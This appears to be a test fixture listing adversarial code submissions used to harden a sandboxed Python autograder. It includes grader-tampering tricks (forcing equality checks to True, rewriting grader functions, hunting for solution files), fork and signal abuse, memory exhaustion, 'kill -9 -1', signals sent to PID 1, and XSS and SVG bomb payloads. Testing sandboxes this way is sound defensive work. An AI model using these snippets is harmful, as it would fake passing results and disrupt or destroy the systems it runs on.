    "names-that-change": FORGE + "class Names(dict):\n    def __getitem__(self, k):\n        Names.n = getattr(Names, 'n', 0) + 1\n        return a[1:5].view(2, 2) if Names.n % 2 and False else a\n    def __missing__(self, k): return True\nshell = get_ipython(); shell.user_ns = Names(shell.user_ns); shell.user_global_ns",
    "an-answer-that-changes": "class Turn:\n    def __getattribute__(self, n): raise SystemExit(0)\n    __class__ = property(lambda s: torch.Tensor)\nclass Loop(dict):\n    def items(self): return iter(lambda: (1, 2), 0)\n    def __len__(self): return 1\nmiddle = {'x': Loop(), Turn: Turn()}",
    "shells-that-help": FORGE + "shell = get_ipython()\nfor event in ('pre_execute', 'pre_run_cell', 'post_execute', 'post_run_cell'): shell.events.register(event, lambda *x: exec('while True: pass'))\nshell.input_transformers_cleanup.append(lambda lines: ['pass\\n']); shell.run_cell = lambda *a, **k: None; shell.showtraceback = None\nshell.set_custom_exc((BaseException,), lambda *a: 1 / 0)",
    "bundles-that-lie": "class Bundle:\n    def _repr_mimebundle_(self, **k): return {'image/png': '\"><script>alert(20)</script>', 'image/svg+xml': '<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe src=\"javascript:alert(21)\"/></foreignObject><image href=\"file:///etc/passwd\"/><style>@import url(http://x/y.css)</style><script>alert(22)</script>&b;</svg>',\n"
    "        'text/html': '<script>alert(23)</script>', 'text/plain': b'x' * 9, 7: object(), 'text/latex': '\\\\href{javascript:alert(24)}{x}'}, {'image/png': {'width': '1 onload=alert(25)'}}\n    __repr__ = lambda s: '</pre><script>alert(26)</script>'\ndisplay(Bundle()); Bundle()",
    "an-array-beyond-its-memory": "import numpy\nmiddle = [numpy.lib.stride_tricks.as_strided(numpy.zeros(1), (2, 2), (10**14, 10**13)), numpy.zeros((2, 2), dtype=object), numpy.rec.array([(1, 2)], dtype=[('x', 'i4'), ('<b>', 'O')])]",
    "attributes-everywhere": FORGE + "import tensorglass, types\nfor m in [v for v in vars(tensorglass).values() if isinstance(v, types.ModuleType)]:\n    for n in list(vars(m)):\n        try:\n            if callable(getattr(m, n)): setattr(m, n, lambda *a, **k: True)\n        except Exception: pass\nobject.__getattribute__",
    "code-that-is-replaced": FORGE + "import gc, types\nyes = (lambda *a, **k: True).__code__\nfor f in [f for f in gc.get_objects() if isinstance(f, types.FunctionType) and 'glassroom' in str(f.__module__)]:\n    try: f.__code__ = yes\n    except (ValueError, TypeError): pass",
    "counts-that-are-wrong": "import ctypes\nfor each in (None, True, 1, 0, '', ()):\n    for _ in range(3): ctypes.c_ssize_t.from_address(id(each)).value = 1\nctypes.memset(id(True) + 24, 0, 4)\nmiddle = (None, True, 1, 0)\ndel each",
    "stack-without-end": "import threading, sys\nthreading.stack_size(1 << 30)\ntry: threading.Thread(target=lambda: None).start()\nexcept (RuntimeError, ValueError): pass\nsys.setrecursionlimit(10**8)\nclass R:\n    def __repr__(self): return repr(self)\nrepr(R())",
    "asks-back-without-end": FORGE + "import sys\nr = sys.modules['glassroom.classroom.inside.runner']\nr.Runner.answer = lambda s, q: {'do': 'back', 'function': -1, 'positional': 'x', 'names': 7, 'values': [], 'storages': {}}",
    # It uses time and memory that are not counted for any process, and pictures that never end.
    "sleeps-behind-others": "import os, signal, time\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\nif os.fork() == 0:\n    while True:\n        try:\n            if os.fork() == 0:\n                end = time.perf_counter() + .05\n                while time.perf_counter() < end: pass\n                os._exit(0)\n        except OSError: pass\n        time.sleep(.03)\nwhile True:\n    try: time.sleep(10**6)\n    except BaseException: pass",
    "is-nice-to-others": "import os\nfor call in (lambda: os.nice(19), lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)), lambda: os.setpriority(0, 0, 19)):\n    try: call(); print('CAPABLE')\n    except OSError: pass\nwhile True: pass",
    "ignores-the-alarm": "import signal, time\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\ntime.sleep(10**6)",
    "blocks-all-signals": "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(10**6)",
    "reads-without-end": "import ctypes, os, signal\nsignal.siginterrupt(signal.SIGALRM, False)\nr, w = os.pipe()\nctypes.CDLL(None).read(r, ctypes.create_string_buffer(1), 1)",
    "alarms-everybody": "import os, signal\nfor _ in range(1000):\n    for p in range(1, 9):\n        try: os.kill(p, signal.SIGALRM if p != os.getpid() else 0)\n        except OSError: pass\nmiddle = 1",
    "alarms-itself-later": "import os, signal, time\nme = os.getpid()\nif os.fork() == 0:\n    while True:\n        os.kill(me, signal.SIGALRM); time.sleep(.001)\nmiddle = 1",
    "memory-in-attributes": "import os, time\nheld = 0\ntry:\n    for n in range(10**6):\n        at = f'/dev/shm/{n}' if n % 2 else f'/tmp/{n}'\n        open(at, 'w').close()\n        for k in range(8): os.setxattr(at, f'user.{k}', b'x' * 60_000); held += .06\nexcept OSError as e: print(e)\nprint('held', held, 'MB')\ntime.sleep(1)\nmiddle = 1",
    "memory-in-queues": "import ctypes\nlibc = ctypes.CDLL(None)\nheld = 0\nfor n in range(300):\n    q = libc.mq_open(f'/q{n}'.encode(), 0o102, 0o600, None)\n    if q < 0: break\n    for _ in range(10): held += .008 * (libc.mq_send(q, b'x' * 8000, 8000, 0) == 0)\nprint('held', held, 'MB')",
    "memory-in-locks": "import fcntl, os\nf = os.open('/tmp/l', os.O_RDWR | os.O_CREAT)\nn = 0\ntry:\n    while True: fcntl.lockf(f, fcntl.LOCK_EX, 1, 2 * n); n += 1\nfinally: print('held', n * 2e-4, 'MB')",
    "fills-the-referee": FORGE + "def share_storage(x, y):\n    return [torch.zeros(3_500_000) for _ in range(2)]",
    "errors-that-take-arguments": "def share_storage(x, y):\n    raise (UnicodeDecodeError('utf8', b'', 0, 1, 'x') if x is y else ExceptionGroup('x', [ValueError()]))\nclass SystemError(BaseException): pass\nraise SystemError('x' * 10**6) from ValueError(*[0] * 10**5)",
    "chains-of-errors": "e = None\nfor _ in range(200_000):\n    n = ValueError('x'); n.__cause__ = e; n.__context__ = e; e = n\ne.add_note('y' * 10**7)\nraise e",
    "a-generator-of-nothing": "from glassroom.classroom.inside import crossing\nt = {'tensor': 'r0', 'id': 'r0', 'dtype': 'uint8', 'size': [3], 'stride': [1], 'offset': 0, 'version': -10**9}\ncrossing.Side.encode_all = lambda s, v: {'values': [{'generator': t}, {'array': {**t, 'leaf': t}}, {'number': ['<f16', '']}, {'storage': 'r0'}] * 3, 'storages': {'r0': '00000'}}",
    "a-leaf-of-leaves": "from glassroom.classroom.inside import crossing\nt = {'tensor': 'r0', 'id': 'r0', 'dtype': 'float32', 'size': [1], 'stride': [1], 'offset': 0, 'version': 5}\nfor _ in range(300): t = {**t, 'leaf': t}\ncrossing.Side.encode_all = lambda s, v: {'values': [t] * 4, 'leaves': [t], 'storages': {'r0': '00000'}}",
    "resets-everything": "get_ipython().run_line_magic('reset', '-f')\nget_ipython().run_line_magic('cd', '/')\nget_ipython().run_cell_magic('bash', '', 'kill -9 -1')",
    "a-shell-of-its-own": "import IPython\nIPython.core.interactiveshell.InteractiveShell.clear_instance()\nget_ipython().__class__.run_cell = lambda *a, **k: None\nget_ipython().user_ns = {}\nget_ipython().user_ns_hidden = None",
    "pictures-that-explode": "import zlib, struct\nfrom IPython.display import display\ndef chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I', zlib.crc32(k + d))\ndef png(w, h): return b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 1, 0, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(bytes((w // 8 + 1) * 4000), 9) * 3) + chunk(b'IEND', b'')\ndisplay({'image/png': __import__('base64').b64encode(png(60000, 60000)).decode()}, raw=True)\nsvg = '<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"9\" height=\"9\"><defs><rect id=\"a0\" width=\"9\" height=\"9\"/>' + ''.join(f'<g id=\"a{n}\">' + f'<use xlink:href=\"#a{n - 1}\"/>' * 10 + '</g>' for n in range(1, 11)) + '</defs><use xlink:href=\"#a10\"/></svg>'\ndisplay({'image/svg+xml': svg}, raw=True)\nmiddle = 1",
    "takes-turns": FORGE + "import sys\nn = 0\ndef share_storage(x, y):\n    global n\n    n += 1\n    f = sys._getframe(1)\n    while f:\n        for v in list(f.f_locals.values()):\n            if isinstance(v, dict): v.update(part=1.0)\n        f = f.f_back\n    return n % 2 == 0",
    "equal-answers": "import tensorglass\ntensorglass.equal = lambda *a: True\nmiddle = a.view(2, 3)[:, 1:]\nmiddle = torch.Tensor._make_subclass(torch.Tensor, middle) if hasattr(torch.Tensor, '_make_subclass') else middle",
    "names-of-the-course": "import os\nfound = []\nfor f, _, names in os.walk('/course'):\n    for n in names:\n        t = open(os.path.join(f, n), 'rb').read()\n        if b'BEGIN SOLUTION' in t and b'middle = a[' in t: found.append(n)\nprint('FOUND {secret}' if found else 'nothing')\nmiddle = 1",
    "vforks": "import ctypes, os\nlibc = ctypes.CDLL(None)\nif libc.syscall(58) == 0:\n    while True: libc.pause()\nmiddle = 1",
    "stops-the-first-process": "import os, signal\nfor s in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTERM, signal.SIGHUP):\n    for p in (1, os.getppid()): os.kill(p, s)\nmiddle = 1",
}  # fmt: skip
